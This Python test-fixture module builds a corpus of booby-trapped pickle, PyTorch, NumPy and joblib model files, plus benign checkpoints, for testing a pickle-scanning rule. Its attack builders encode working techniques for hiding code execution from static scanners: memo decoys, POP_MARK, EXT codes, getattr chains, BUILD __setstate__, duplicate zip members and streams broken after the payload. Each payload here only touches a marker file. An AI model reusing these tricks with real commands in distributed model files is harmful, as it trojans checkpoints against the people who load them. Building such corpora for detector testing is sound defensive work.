"""A corpus of pickle-based files for GC701, built in a temporary directory (no binary is
committed).

ATTACKS would each run a shell command that creates a marker file if they were ever loaded; each is
built, opcode by opcode, to slip past some way of reading a pickle without running it. BENIGN
holds ordinary checkpoints (plain pickles of protocols 0-5, PyTorch zip and legacy files, NumPy
arrays) that a check must let through. Nothing in this module unpickles anything."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from pickle import (
    BINPERSID,
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWFALSE,
    NEWOBJ,
    OBJ,
    POP,
    POP_MARK,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
)
from typing import Any

# How a loader reads the file: which pickle streams it runs, in which order (see the tests' probe).
PICKLES = "pickle streams back to back"
LEGACY = "legacy torch: five streams, then raw storage bytes"
ZIP = "zip members, each by its content"
TAR = "legacy torch tar: each member's streams"
NPY = "npy header, then the object array's pickle"
JOBLIB = "joblib: raw array bytes inline after the wrapper's BUILD"
COMPRESSED = "gzip or zlib, by its magic (as joblib.load does), then pickle streams"

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001
TORCH_SYS_INFO = {
    "protocol_version": TORCH_PROTOCOL,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


@dataclass(frozen=True)
class Call:
    """What an attack runs when loaded: `module.name(argument)`."""

    module: str
    name: str
    argument: str


# Opcodes with an argument (the argument-less ones come from the pickle module).


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def text(value: str) -> bytes:
    """SHORT_BINUNICODE, or BINUNICODE when longer than 255 bytes."""
    raw = value.encode()
    return (
        b"\x8c" + bytes([len(raw)]) + raw
        if len(raw) < 256
        else b"X" + struct.pack("<I", len(raw)) + raw
    )


def text8(value: str) -> bytes:
    raw = value.encode()
    return b"\x8d" + struct.pack("<Q", len(raw)) + raw


def unicode0(value: str) -> bytes:
    """Protocol 0's UNICODE: raw-unicode-escape, ended by a newline."""
    return b"V" + value.encode("raw_unicode_escape") + b"\n"


def string0(value: str) -> bytes:
    """Protocol 0's STRING: a quoted repr, ended by a newline."""
    return b"S" + repr(value).encode() + b"\n"


def short_binstring(value: str) -> bytes:
    raw = value.encode("ascii")
    return b"U" + bytes([len(raw)]) + raw


def global_(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def inst(module: str, name: str) -> bytes:
    return b"i" + f"{module}\n{name}\n".encode()


def put(key: int) -> bytes:
    return b"p" + str(key).encode() + b"\n"


def get(key: int) -> bytes:
    return b"g" + str(key).encode() + b"\n"


def binput(key: int) -> bytes:
    return b"q" + bytes([key])


def binget(key: int) -> bytes:
    return b"h" + bytes([key])


def long_binput(key: int) -> bytes:
    return b"r" + struct.pack("<I", key)


def long_binget(key: int) -> bytes:
    return b"j" + struct.pack("<I", key)


def ext(size: int, code: int) -> bytes:
    """EXT1, EXT2 or EXT4: the global registered under `code` in copyreg's extension registry."""
    opcode, layout = {1: (b"\x82", "<B"), 2: (b"\x83", "<H"), 4: (b"\x84", "<i")}[size]
    return opcode + struct.pack(layout, code)


EXT_CODES = {1: 0xF0, 2: 0x1234, 4: 0x123456}
DECOY = text("collections") + text(
    "OrderedDict"
)  # the pair a scanner that trusts the last two strings sees


def reduce_call(call: Call) -> bytes:
    """Push `call.module.call.name(call.argument)` the plain way: GLOBAL, argument, REDUCE."""
    return global_(call.module, call.name) + text(call.argument) + TUPLE1 + REDUCE


def with_argument(call: Call) -> bytes:
    return text(call.argument) + TUPLE1 + REDUCE + STOP


# Pickle streams that run `call`, each hiding it in its own way.


def plain(call: Call) -> bytes:
    return proto(2) + reduce_call(call) + STOP


def memo_decoy(call: Call) -> bytes:
    """The real strings are memoized and popped, a harmless pair is pushed and popped, and the real
    ones come back from the memo just before STACK_GLOBAL."""
    hide = text(call.module) + MEMOIZE + POP + text(call.name) + MEMOIZE + POP + DECOY + POP + POP
    return proto(4) + hide + binget(0) + binget(1) + STACK_GLOBAL + with_argument(call)


def memo_overwrite(call: Call) -> bytes:
    """Memo slots first hold the harmless pair, are overwritten (LONG_BINPUT, text PUT) and read
    back
    with LONG_BINGET and text GET; the module is a BINUNICODE8."""
    harmless = text("collections") + binput(0) + text("OrderedDict") + binput(1) + POP + POP
    overwrite = (
        text8(call.module)
        + long_binput(0)
        + POP
        + text(call.name)
        + put(1)
        + POP
        + DECOY
        + POP
        + POP
    )
    return (
        proto(4)
        + harmless
        + overwrite
        + long_binget(0)
        + get(1)
        + STACK_GLOBAL
        + with_argument(call)
    )


def pop_mark_decoy(call: Call) -> bytes:
    """The harmless pair is pushed after a MARK and discarded with POP_MARK."""
    return (
        proto(4)
        + text(call.module)
        + text(call.name)
        + MARK
        + DECOY
        + POP_MARK
        + STACK_GLOBAL
        + with_argument(call)
    )


def protocol0_global(call: Call) -> bytes:
    """No PROTO opcode at all: a protocol-0 pickle."""
    return global_(call.module, call.name) + MARK + unicode0(call.argument) + TUPLE + REDUCE + STOP


def protocol0_stack_global(call: Call) -> bytes:
    """No PROTO; protocol-0 STRING/UNICODE literals and text PUT/GET feed a STACK_GLOBAL."""
    hide = (
        string0(call.module)
        + put(0)
        + POP
        + unicode0(call.name)
        + put(1)
        + POP
        + string0("collections")
        + unicode0("OrderedDict")
    )
    return (
        hide
        + POP
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + MARK
        + unicode0(call.argument)
        + TUPLE
        + REDUCE
        + STOP
    )


def binstring_operands(call: Call) -> bytes:
    """STACK_GLOBAL on SHORT_BINSTRINGs, which Python 3 decodes to str."""
    return (
        proto(4)
        + short_binstring(call.module)
        + short_binstring(call.name)
        + STACK_GLOBAL
        + with_argument(call)
    )


def extension(size: int) -> Callable[[Call], bytes]:
    """EXT1/EXT2/EXT4: the callable is whatever copyreg has registered under the code when the file
    is loaded; nothing in the file names it."""

    def build(call: Call) -> bytes:
        return proto(2) + ext(size, EXT_CODES[size]) + with_argument(call)

    build.__name__ = f"ext{size}"
    return build


def getattr_chain(call: Call) -> bytes:
    """getattr(__import__(module), name)(argument): the module and name are plain string
    arguments."""
    imported = global_("builtins", "__import__") + text(call.module) + TUPLE1 + REDUCE
    return (
        proto(2)
        + global_("builtins", "getattr")
        + imported
        + text(call.name)
        + TUPLE2
        + REDUCE
        + with_argument(call)
    )


def getattr_chain_memo(call: Call) -> bytes:
    """The getattr chain again, its own globals' strings fetched from the memo behind decoys."""
    hide = (
        text("builtins")
        + MEMOIZE
        + POP
        + text("getattr")
        + MEMOIZE
        + POP
        + text("__import__")
        + MEMOIZE
        + POP
        + DECOY
        + POP
        + POP
    )
    globals_ = (
        binget(0)
        + binget(1)
        + STACK_GLOBAL
        + binget(0)
        + binget(2)
        + STACK_GLOBAL
        + DECOY
        + POP
        + POP
    )
    chain = text(call.module) + TUPLE1 + REDUCE + text(call.name) + TUPLE2 + REDUCE
    return proto(4) + hide + globals_ + chain + with_argument(call)


def inst_opcode(call: Call) -> bytes:
    """INST: import and call in one protocol-0 opcode."""
    return MARK + unicode0(call.argument) + inst(call.module, call.name) + STOP


def obj_opcode(call: Call) -> bytes:
    return proto(2) + MARK + global_(call.module, call.name) + text(call.argument) + OBJ + STOP


def obj_memo(call: Call) -> bytes:
    """OBJ on a STACK_GLOBAL whose strings come from the memo, a decoy left on the stack in
    between."""
    hide = text(call.module) + MEMOIZE + POP + text(call.name) + MEMOIZE + POP
    return (
        proto(4)
        + hide
        + MARK
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + DECOY
        + POP
        + POP
        + text(call.argument)
        + OBJ
        + STOP
    )


def build_setstate(call: Call) -> bytes:
    """The first BUILD gives an OrderedDict an instance attribute `__setstate__` = the callable; the
    second BUILD calls it with the argument."""
    empty = global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    first = EMPTY_DICT + text("__setstate__") + global_(call.module, call.name) + SETITEM + BUILD
    return proto(2) + empty + first + text(call.argument) + BUILD + STOP


def nested_reduce(call: Call) -> bytes:
    """The call is a value inside an allowed OrderedDict."""
    return (
        proto(2)
        + global_("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + text("k")
        + reduce_call(call)
        + SETITEM
        + STOP
    )


def nonliteral_call(call: Call) -> bytes:
    """STACK_GLOBAL's module is the result of a call (str(module)), not a literal string."""
    module = global_("builtins", "str") + text(call.module) + TUPLE1 + REDUCE
    return proto(4) + module + text(call.name) + STACK_GLOBAL + with_argument(call)


def nonliteral_persid(call: Call) -> bytes:
    """STACK_GLOBAL's module comes from persistent_load(('module', module)): PyTorch's legacy loader
    returns data[0] for a 'module' id, so no global at all names it."""
    return (
        proto(2)
        + text("module")
        + text(call.module)
        + TUPLE2
        + BINPERSID
        + text(call.name)
        + STACK_GLOBAL
        + with_argument(call)
    )


def error_after_payload(call: Call) -> bytes:
    """The call runs, then a POP_MARK without a MARK breaks the stream."""
    return proto(2) + reduce_call(call) + POP_MARK + STOP


def empty_stack_after_payload(call: Call) -> bytes:
    """The call runs, then a POP on an empty stack breaks the stream."""
    return proto(2) + reduce_call(call) + POP + POP + STOP


def truncated(call: Call) -> bytes:
    """The call runs, then the stream ends without STOP."""
    return proto(2) + reduce_call(call)


def protocol1_truncated(call: Call) -> bytes:
    """PROTO 1, the call, and no STOP."""
    return proto(1) + reduce_call(call)


def protocol0_unknown_opcode(call: Call) -> bytes:
    """A protocol-0 call, then a byte that is no opcode instead of STOP: the call has run by
    then."""
    return (
        global_(call.module, call.name) + MARK + unicode0(call.argument) + TUPLE + REDUCE + b"\xff"
    )


def memo_after_pop(call: Call) -> bytes:
    """BINPUT right after a POP memoizes the real top of the stack, not the string just popped."""
    module = text(call.module) + text("junk") + POP + binput(0) + POP
    name = text(call.name) + text("junk") + POP + binput(1) + POP
    return proto(4) + module + name + binget(0) + binget(1) + STACK_GLOBAL + with_argument(call)


def stacked_memo_reset(call: Call) -> bytes:
    """Two streams: the first memoizes the harmless pair; the second fetches memo slots 0 and 1,
    which hold its own strings, because each stream starts with an empty memo."""
    first = proto(4) + text("collections") + MEMOIZE + text("OrderedDict") + MEMOIZE + TUPLE2 + STOP
    second = (
        proto(4)
        + text(call.module)
        + MEMOIZE
        + POP
        + text(call.name)
        + MEMOIZE
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
    )
    return first + second + with_argument(call)


# Tensor-like structures, pickled by the real pickler as torch.save would, without torch installed.


class Reference:
    """Pickles as the global `module.name` without importing it."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name

    def __call__(self, *args: object) -> object:
        raise AssertionError("a reference is only ever pickled")

    def __repr__(self) -> str:
        return f"{self.module}.{self.name}"


REBUILD_TENSOR = Reference("torch._utils", "_rebuild_tensor_v2")
FLOAT_STORAGE = Reference("torch", "FloatStorage")


@dataclass(frozen=True)
class Storage:
    key: str
    numel: int


@dataclass(frozen=True)
class Tensor:
    storage: Storage
    shape: tuple[int, ...]

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        stride = tuple(1 for _ in self.shape)
        return REBUILD_TENSOR, (self.storage, 0, self.shape, stride, False, OrderedDict())


@dataclass(frozen=True)
class Invocation:
    """Pickles as a call of `call` (the way an attacker's object's __reduce__ would)."""

    call: Call

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Reference(self.call.module, self.call.name), (self.call.argument,)


class _ReferencePickler(pickle._Pickler):
    """The pure-Python pickler, because it lets a subclass write a global it cannot import; storages
    become persistent ids the way torch.save writes them."""

    def reducer_override(self, obj: Any) -> Any:
        return obj.name if isinstance(obj, Reference) else NotImplemented

    def save_global(self, obj: Any, name: str | None = None) -> None:
        if not isinstance(obj, Reference):
            super().save_global(obj, name)
        elif self.proto >= 4:
            self.save(obj.module)
            self.save(obj.name)
            self.write(STACK_GLOBAL)
            self.memoize(obj)
        else:
            self.write(global_(obj.module, obj.name))
            self.memoize(obj)

    def persistent_id(self, obj: Any) -> object:
        return (
            ("storage", FLOAT_STORAGE, obj.key, "cpu", obj.numel)
            if isinstance(obj, Storage)
            else None
        )


def dumps(obj: object, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    _ReferencePickler(buffer, protocol=protocol).dump(obj)
    return buffer.getvalue()


STORAGES = (Storage("0", 40), Storage("1", 8))


def state_dict(*extra: tuple[str, object]) -> OrderedDict[str, object]:
    """A small model's state dict; two tensors share a storage, as views do, and the dict carries
    torch's `_metadata` attribute, which pickles as a BUILD on the OrderedDict."""
    tensors = OrderedDict(
        [
            ("encoder.weight", Tensor(STORAGES[0], (4, 10))),
            ("encoder.bias", Tensor(STORAGES[1], (4,))),
            ("decoder.weight", Tensor(STORAGES[0], (10, 4))),
            *extra,
        ]
    )
    # type: ignore[attr-defined]
    tensors._metadata = OrderedDict([("", {"version": 1}), ("encoder", {"version": 1})])
    return tensors


def training_checkpoint() -> dict[str, object]:
    return {
        "state_dict": state_dict(),
        "epoch": 3,
        "optimizer": {"lr": 0.01, "betas": (0.9, 0.999)},
        "best": None,
    }


def trojaned_state_dict(call: Call) -> bytes:
    """A real-looking state dict with one more entry whose value is the call."""
    return dumps(state_dict(("encoder.hook", Invocation(call))))


def storage_bytes(storage: Storage) -> bytes:
    return b"\x01" * (4 * storage.numel)


# Containers.


def zip_of(members: list[tuple[str, bytes]]) -> bytes:
    """A stored (uncompressed) zip of the members in order; duplicate names are kept."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": intended
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, *, prefix: str = "archive") -> bytes:
    """torch.save's zip layout: data.pkl, one member per storage, byteorder and version."""
    storages = [(f"{prefix}/data/{storage.key}", storage_bytes(storage)) for storage in STORAGES]
    return zip_of(
        [
            (f"{prefix}/data.pkl", data_pkl),
            *storages,
            (f"{prefix}/byteorder", b"little"),
            (f"{prefix}/version", b"3\n"),
        ]
    )


def legacy_torch(replace: dict[int, bytes] | None = None) -> bytes:
    """torch's pre-1.6 format: five streams (magic number, protocol version, sys_info, the object,
    the storage keys), then each storage raw (an int64 element count, then its bytes). `replace`
    swaps stream N (1-based) for other bytes. The first storage has 40 elements, so the raw bytes
    start with 0x28, the MARK opcode."""
    streams = [
        pickle.dumps(TORCH_MAGIC, protocol=2),
        pickle.dumps(TORCH_PROTOCOL, protocol=2),
        pickle.dumps(TORCH_SYS_INFO, protocol=2),
        dumps(state_dict()),
        pickle.dumps([storage.key for storage in STORAGES], protocol=2),
    ]
    for number, stream in (replace or {}).items():
        streams[number - 1] = stream
    raw = b"".join(
        struct.pack("<q", storage.numel) + storage_bytes(storage) for storage in STORAGES
    )
    return b"".join(streams) + raw


def legacy_tar(replace: dict[str, bytes] | None = None) -> bytes:
    """torch's oldest format: a tar of pickles (sys_info, pickle, storages, tensors; no storages
    here, so each of the last two is one count)."""
    members = {
        "sys_info": pickle.dumps(TORCH_SYS_INFO, protocol=2),
        "pickle": dumps(state_dict()),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    } | (replace or {})
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    """NumPy's .npy format 1.0: magic, header length, a dict literal padded to 64 bytes, the
    data."""
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    header += " " * (-(10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + body


def object_npy(pickled: bytes, descr: str = "|O") -> bytes:
    """An object array: numpy.load(allow_pickle=True) unpickles whatever follows the header."""
    return npy(descr, (1,), pickled)


def v7_tar(archive: bytes) -> bytes:
    """The tar in the pre-POSIX (v7) layout: no "ustar" magic, which Python's tarfile, and so
    PyTorch's legacy loader, still reads."""
    blocks = bytearray(archive)
    offset = 0
    while any(blocks[offset : offset + 512]):
        header = blocks[offset : offset + 512]
        size = int(bytes(header[124:136]).strip(b"\0 ") or b"0", 8)
        header[257:265] = bytes(8)  # magic and version
        header[148:156] = b" " * 8  # the checksum is computed with its own field as spaces
        header[148:156] = b"%06o\0 " % sum(header)
        blocks[offset : offset + 512] = header
        offset += 512 + -(-size // 512) * 512
    return bytes(blocks)


def joblib_style(call: Call) -> bytes:
    """joblib's NumpyPickler layout: after the NumpyArrayWrapper's BUILD come the array's raw bytes,
    inline; the stream then goes on, here to the call."""
    wrapper = global_("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    state = (
        EMPTY_DICT
        + MARK
        + text("shape")
        + b"K\x04"
        + TUPLE1
        + text("order")
        + text("C")
        + text("allow_mmap")
        + NEWFALSE
        + SETITEMS
    )
    raw = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
    return proto(2) + wrapper + state + BUILD + raw + POP + reduce_call(call) + STOP


def with_bad_crc(archive: bytes, member: bytes) -> bytes:
    """The archive with `member`'s recorded CRC-32 changed, in its local and central headers."""
    crc = struct.pack("<I", zlib.crc32(member))
    assert archive.count(crc) == 2, "the CRC must appear once in each header"
    return archive.replace(crc, struct.pack("<I", zlib.crc32(member) ^ 1))


# The corpus.


def os_system(marker: Path) -> Call:
    return Call("os", "system", f"touch {marker}")


def posix_system(marker: Path) -> Call:
    return Call("posix", "system", f"touch {marker}")


def subprocess_getoutput(marker: Path) -> Call:
    return Call("subprocess", "getoutput", f"touch {marker}")


def builtins_exec(marker: Path) -> Call:
    return Call("builtins", "exec", f"open({str(marker)!r}, 'w').close()")


def builtins_eval(marker: Path) -> Call:
    return Call("builtins", "eval", f"__import__('os').system('touch {marker}')")


@dataclass(frozen=True)
class Attack:
    """A file that runs `payload` when loaded. A finding about it must contain `culprit` (the global
    or opcode to blame; None when it may just say the file cannot be shown safe) and `members`
    (where in an archive)."""

    relpath: str
    build: Callable[[Call], bytes]
    payload: Callable[[Path], Call]
    culprit: str | None
    layout: str = PICKLES
    members: tuple[str, ...] = ()
    readable: bool = True  # False: Python's zipfile refuses it, so the tests' probe cannot load it

    def content(self, markers: Path) -> bytes:
        return self.build(self.payload(self.marker(markers)))

    def marker(self, markers: Path) -> Path:
        return markers / self.relpath.replace("/", "-")


@dataclass(frozen=True)
class Benign:
    relpath: str
    content: Callable[[], bytes]


def _wrap(
    container: Callable[[bytes], bytes], stream: Callable[[Call], bytes]
) -> Callable[[Call], bytes]:
    def build(call: Call) -> bytes:
        return container(stream(call))

    return build


def _legacy_with(number: int, stream: Callable[[Call], bytes]) -> Callable[[Call], bytes]:
    def build(call: Call) -> bytes:
        return legacy_torch({number: stream(call)})

    return build


def _tar_with(member: str, stream: Callable[[Call], bytes]) -> Callable[[Call], bytes]:
    def build(call: Call) -> bytes:
        return legacy_tar({member: stream(call)})

    return build


def _duplicate_data_pkl(*, malicious_first: bool) -> Callable[[Call], bytes]:
    def build(call: Call) -> bytes:
        pair = [dumps(state_dict()), trojaned_state_dict(call)]
        first, second = reversed(pair) if malicious_first else pair
        return zip_of(
            [("archive/data.pkl", first), ("archive/data.pkl", second), ("archive/version", b"3\n")]
        )

    return build


def _nested_zip(call: Call) -> bytes:
    return zip_of(
        [("README.txt", b"weights inside\n"), ("inner.pt", torch_zip(trojaned_state_dict(call)))]
    )


def _npz(call: Call) -> bytes:
    return zip_of(
        [
            ("bias.npy", npy("<f4", (2,), bytes(8))),
            ("weights.npy", object_npy(pickle_protocol3(call))),
        ]
    )


def pickle_protocol3(call: Call) -> bytes:
    """What numpy.save writes for an object array: a protocol-3 pickle."""
    return proto(3) + reduce_call(call) + STOP


def _truncated_zip(call: Call) -> bytes:
    archive = torch_zip(memo_decoy(call))
    return archive[: len(archive) // 2]


def _v7_legacy_tar(call: Call) -> bytes:
    return v7_tar(legacy_tar({"pickle": trojaned_state_dict(call)}))


def _object_npy_spelled_out(call: Call) -> bytes:
    return object_npy(pickle_protocol3(call), descr="object")


def _bad_crc_zip(call: Call) -> bytes:
    data_pkl = memo_decoy(call)
    return with_bad_crc(torch_zip(data_pkl), data_pkl)


ATTACKS = (
    # (a) strings memoized, popped, a harmless pair pushed and popped, fetched back for STACK_GLOBAL
    Attack("a-memo-decoy.pkl", memo_decoy, os_system, "os.system"),
    Attack("a-memo-overwrite.pkl", memo_overwrite, posix_system, "posix.system"),
    Attack(
        "a-memo-decoy-torch.pt",
        _wrap(torch_zip, memo_decoy),
        os_system,
        "os.system",
        ZIP,
        ("archive/data.pkl",),
    ),
    # (b) the harmless pair pushed after a MARK and dropped with POP_MARK
    Attack("b-pop-mark.pkl", pop_mark_decoy, subprocess_getoutput, "subprocess.getoutput"),
    # (c) protocol 0: no PROTO opcode, named .pt
    Attack("c-protocol0.pt", protocol0_global, os_system, "os.system"),
    Attack("c-protocol0-stack-global.pt", protocol0_stack_global, builtins_exec, "builtins.exec"),
    # (d) several pickles back to back: legacy torch with the payload in stream 2..5, and a plain
    # file whose second stream relies on the memo being reset
    *(
        Attack(f"d-legacy-stream{n}.pt", _legacy_with(n, plain), os_system, "os.system", LEGACY)
        for n in (2, 3, 5)
    ),
    Attack(
        "d-legacy-stream4.pt",
        _legacy_with(4, trojaned_state_dict),
        posix_system,
        "posix.system",
        LEGACY,
    ),
    Attack("d-stacked.pkl", stacked_memo_reset, os_system, "os.system"),
    # (e) the legacy tar layout
    Attack(
        "e-legacy-tar.pt",
        _tar_with("pickle", trojaned_state_dict),
        os_system,
        "os.system",
        TAR,
        ("pickle",),
    ),
    Attack(
        "e-legacy-tar-storages.pt",
        _tar_with("storages", plain),
        builtins_eval,
        "builtins.eval",
        TAR,
        ("storages",),
    ),
    # (f) inside a directory: an upper-case suffix, and no suffix at all (only the content says
    # pickle)
    Attack("f-directory/MODEL.PKL", protocol0_global, os_system, "os.system"),
    Attack("f-directory/weights", plain, posix_system, "posix.system"),
    # (g) two members named archive/data.pkl, the malicious one last, then first
    Attack(
        "g-duplicate-malicious-last.pt",
        _duplicate_data_pkl(malicious_first=False),
        os_system,
        "os.system",
        ZIP,
        ("archive/data.pkl",),
    ),
    Attack(
        "g-duplicate-malicious-first.pt",
        _duplicate_data_pkl(malicious_first=True),
        os_system,
        "os.system",
        ZIP,
        ("archive/data.pkl",),
    ),
    # (h) a torch zip inside a zip
    Attack(
        "h-nested.zip", _nested_zip, os_system, "os.system", ZIP, ("inner.pt", "archive/data.pkl")
    ),
    # (i) damaged files: a zip cut in half, a member whose CRC does not match, a stream without STOP
    Attack("i-truncated-zip.pt", _truncated_zip, os_system, None, ZIP, readable=False),
    Attack(
        "i-bad-crc.pt", _bad_crc_zip, os_system, None, ZIP, ("archive/data.pkl",), readable=False
    ),
    Attack("i-truncated-stream.pt", truncated, os_system, "os.system"),
    # globals reached through calls, nested calls, BUILD, INST and OBJ
    Attack("getattr-chain.pkl", getattr_chain, os_system, "builtins.getattr"),
    Attack("getattr-chain-memo.pkl", getattr_chain_memo, os_system, "builtins.getattr"),
    Attack("nested-reduce.pkl", nested_reduce, os_system, "os.system"),
    Attack("build-setstate.pkl", build_setstate, os_system, "os.system"),
    Attack("inst.pkl", inst_opcode, os_system, "os.system"),
    Attack("obj.pkl", obj_opcode, posix_system, "posix.system"),
    Attack("obj-memo.pkl", obj_memo, os_system, "os.system"),
    Attack("binstring-operands.pkl", binstring_operands, os_system, "os.system"),
    Attack("memo-after-pop.pkl", memo_after_pop, os_system, "os.system"),
    # the copyreg extension registry: refused whatever is registered
    *(Attack(f"ext{size}.pkl", extension(size), os_system, f"EXT{size}") for size in (1, 2, 4)),
    # STACK_GLOBAL operands that are not literal strings
    Attack("nonliteral-call.pkl", nonliteral_call, os_system, "builtins.str"),
    Attack(
        "nonliteral-persid.pt", nonliteral_persid, os_system, "STACK_GLOBAL"
    ),  # no literal names the global
    # the call runs, then the stream breaks
    Attack("error-after-payload.pkl", error_after_payload, os_system, "os.system"),
    Attack("empty-stack-after-payload.pkl", empty_stack_after_payload, os_system, "os.system"),
    # torch zips written with zipfile, another archive prefix, a raw pickle as a .bin member
    Attack(
        "torch-trojaned.pt",
        _wrap(torch_zip, trojaned_state_dict),
        os_system,
        "os.system",
        ZIP,
        ("archive/data.pkl",),
    ),
    Attack(
        "torch-other-prefix.pth",
        _wrap(lambda data: torch_zip(data, prefix="clf"), nested_reduce),
        builtins_eval,
        "builtins.eval",
        ZIP,
        ("clf/data.pkl",),
    ),
    Attack(
        "zip-bin-member.zip",
        _wrap(lambda data: zip_of([("model/pytorch_model.bin", data)]), plain),
        os_system,
        "os.system",
        ZIP,
        ("pytorch_model.bin",),
    ),
    # NumPy object arrays, alone and in an .npz
    Attack("object-array.npy", _wrap(object_npy, pickle_protocol3), os_system, "os.system", NPY),
    Attack("object-arrays.npz", _npz, os_system, "os.system", ZIP, ("weights.npy",)),
    # joblib: the payload follows the array's raw bytes
    Attack("model.joblib", joblib_style, os_system, None, JOBLIB),
    # Names torch.load is used on but that do not say pickle (it reads any non-zip, non-tar file as
    # a legacy pickle): a stream that runs its call and then breaks, so it never decodes to STOP
    Attack("pytorch_model.bin", protocol0_unknown_opcode, os_system, "os.system"),
    Attack("model.ckpt", protocol1_truncated, posix_system, "posix.system"),
    # the legacy tar layout without the "ustar" magic, under a name torch.load is used on
    Attack("v7-tar.ckpt", _v7_legacy_tar, os_system, "os.system", TAR, ("pickle",)),
    # an object array whose dtype is spelled "object", not "|O"
    Attack("object-spelled-out.npy", _object_npy_spelled_out, os_system, "os.system", NPY),
    # compressed, as joblib.dump writes for these suffixes and joblib.load reads by the magic; a
    # finding may name the call or refuse the compressed stream
    Attack("model.joblib.gz", _wrap(gzip.compress, plain), os_system, None, COMPRESSED),
    Attack("model.pkl.z", _wrap(zlib.compress, plain), os_system, None, COMPRESSED),
)

# Objects the standard pickler writes without any global (bytes would need _codecs.encode below
# protocol 3).
PLAIN = {
    "epoch": 3,
    "lr": 0.001,
    "layers": [64, 32],
    "name": "clf",
    "flags": (True, None, False),
    "history": [{"loss": 0.5}] * 3,
}
BENIGN = (
    *(Benign(f"plain-protocol{p}.pkl", partial(pickle.dumps, PLAIN, protocol=p)) for p in range(6)),
    *(
        Benign(f"checkpoint-protocol{p}.pkl", partial(dumps, training_checkpoint(), protocol=p))
        for p in range(6)
    ),
    Benign(
        "stacked.pkl",
        lambda: pickle.dumps(PLAIN, protocol=4) + pickle.dumps(["second", "stream"], protocol=4),
    ),
    Benign("torch.pt", lambda: torch_zip(dumps(state_dict()))),
    Benign("legacy.pt", legacy_torch),
    Benign("numeric.npy", lambda: npy("<f4", (2, 2), struct.pack("<4f", 1, 2, 3, 4))),
    Benign(
        "numeric.npz",
        lambda: zip_of(
            [("w.npy", npy("<f4", (2,), bytes(8))), ("b.npy", npy("<i8", (1,), bytes(8)))]
        ),
    ),
    # text that starts with a byte a pickle may start with (GLOBAL, MARK, INT) and then does not
    # decode
    Benign("labels.csv", lambda: b"class,count\ncat,3\ndog,5\n"),
    Benign("README", lambda: b"(draft) Notes on the model.\n"),
    Benign("notes.txt", lambda: b"Introduction\nThe model classifies points.\n"),
)


def write_corpus(directory: Path, markers: Path) -> dict[str, Path]:
    """Every attack and benign file under `directory`, by relpath; attacks' markers go in
    `markers`."""
    written = {}
    for attack in ATTACKS:
        written[attack.relpath] = _write(directory / attack.relpath, attack.content(markers))
    for benign in BENIGN:
        written[benign.relpath] = _write(directory / benign.relpath, benign.content())
    return written


def _write(path: Path, content: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path
